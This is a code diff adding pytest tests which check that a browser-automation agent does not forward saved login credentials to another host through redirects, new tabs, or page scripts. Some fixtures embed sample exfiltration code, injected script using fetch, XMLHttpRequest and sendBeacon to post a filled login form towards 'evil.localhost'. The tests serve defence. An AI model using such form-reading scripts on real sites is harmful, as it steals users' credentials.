@@ -120,6 +120,78 @@ def test_a_redirect_to_another_host_gets_none_there(run, site):
     assert site.posted == []
 
 
+def again(site, code, host):
+    """Serve a login that the trusted host itself has the browser send once more, to `host`."""
+    site.page("/login", f"<title>Log in</title>{FORM.format(action=f'/again/{code}/{host}/login')}")
+
+
+def knowing(site, *names, then="Log in"):
+    """Name hosts, so that nothing but what is tested here keeps a session from them; then be at the login."""
+    pages = [site.url("/x", f"{name}.localhost") for name in names]
+    return "\n".join([*(f"Go to {page}" for page in [*pages, site.url()]), then])
+
+
+@pytest.mark.parametrize("code", [307, 308])
+def test_a_login_is_not_sent_on_to_another_host(run, site, code):
+    again(site, code, "evil.localhost")
+    body = run(knowing(site, "evil"), secrets=MINE)
+    assert (body["status"], body.get("code")) == ("failed", "BLOCKED_BY_POLICY"), (body, site.posted)
+    assert "must not be sent on" in body["message"]
+    assert (posted(site), posted(site, "evil.localhost")) == ([WELL], [])
+
+
+def test_a_login_that_opens_a_tab_is_not_sent_on_either(run, site):
+    site.page("/login", "<title>Log in</title>" + FORM.format(action="/again/307/evil.localhost/login")
+              .replace("<form ", "<form target=_blank "))  # fmt: skip
+    body = run(knowing(site, "evil"), secrets=MINE)
+    assert (posted(site), posted(site, "evil.localhost")) == ([WELL], []), body
+
+
+@pytest.mark.parametrize(
+    "send",
+    [
+        "fetch(there, {method: 'POST', body, mode: 'no-cors'})",
+        "{const x = new XMLHttpRequest(); x.open('POST', there); x.send(body)}",
+        "navigator.sendBeacon(there, body)",
+    ],
+    ids=["fetch", "XMLHttpRequest", "beacon"],
+)
+def test_what_a_script_sends_is_not_sent_on_to_another_host(emulator, site, send, idle_session):
+    """The page of the trusted host reads the field that was filled in; its host redirects what it sends."""
+    there, own = "/again/307/evil.localhost/login", "/again/307/login.localhost/login"
+    site.page("/login", "<title>Log in</title>" + FORM.format(action="/login") + f"""<script>
+        document.forms[0].onsubmit = () => {{
+          const body = new URLSearchParams(new FormData(document.forms[0]));
+          for (const there of ["{there}", "{own}"]) {send};
+          return false;
+        }}</script>""")  # fmt: skip
+    emulator.message(idle_session, actionType="newTask", taskDetails=knowing(site, "evil"), secrets=MINE)
+    # the site answers these in turn: what comes after them has been asked for after them
+    emulator.message(idle_session, actionType="newTask", taskDetails="Get the heading", startingPoint=site.url("/end"))
+    assert posted(site, "evil.localhost") == []
+    assert posted(site).count(WELL) == 3  # the two that were redirected, and the one that went on to its own host
+
+
+def test_a_login_is_sent_on_to_its_own_host(run, site):
+    again(site, 307, "login.localhost")
+    body = run("Log in", startingPoint=site.url(), secrets=MINE)
+    assert (body["status"], posted(site)) == ("complete", [WELL, WELL]), body
+
+
+def test_a_login_is_sent_on_to_another_host_that_it_is_for(run, site):
+    again(site, 307, "www.login.localhost")
+    both = [{"match": "*.localhost", "fields": WELL}]
+    body = run(knowing(site, "www.login"), secrets=both)
+    assert (body["status"], posted(site, "www.login.localhost")) == ("complete", [WELL]), body.get("message")
+
+
+def test_without_a_secret_a_form_is_sent_on_anywhere(run, site):
+    form = "<form method=post action=/again/307/evil.localhost/login><label>Query <input name=q></label>"
+    site.page("/login", f"{form}<button>Go</button></form>")
+    body = run(knowing(site, "evil", then='Type "words" into the Query field\nClick the Go button'))
+    assert posted(site, "evil.localhost") == [{"q": "words"}], body["message"]
+
+
 def test_subdomains_are_not_the_domain(run, site):
     secrets = [{"match": "*.localhost", "fields": WELL}, {"match": "all", "fields": {"note": "for others"}}]
     assert run("Log in", startingPoint=site.url(), secrets=secrets)["status"] == "complete"
@@ -179,6 +251,22 @@ def test_credentials_that_a_person_gives_are_secrets_from_then_on(emulator, site
     assert has_none(done)
     _, listed = emulator.message(idle_session, actionType="newTask", taskDetails="Get the heading")
     assert has_none(listed)
+
+
+def test_a_host_in_a_confided_answer_is_not_opened_to_the_session(emulator, site, idle_session, until):
+    """10.255.255.1 is private: reached only where the user names it, and a password names nothing."""
+    inside = "10.255.255.1"
+    _, body = emulator.message(idle_session, actionType="newTask", taskDetails="Log in", startingPoint=site.url())
+    assert body["data"]["kind"] == "credentials"
+    told = f"ada@{inside} http://{inside}/x"
+    emulator.message(idle_session, actionType="guardrail", taskDetails=told, newState="resume")
+    path = f"/task/{idle_session}/{body['taskId']}"
+    until(lambda: emulator.get(path)[1], lambda polled: not polled["pending"])
+    site.page("/link", f"<a href=http://{inside}/>Inside</a>")
+    _, body = emulator.message(
+        idle_session, actionType="newTask", taskDetails='Click the "Inside" link', startingPoint=site.url("/link")
+    )
+    assert (body["status"], body["code"]) == ("failed", "BLOCKED_BY_POLICY"), body
 
 
 def test_a_code_is_asked_for_where_nothing_makes_one(run, emulator, site, until):
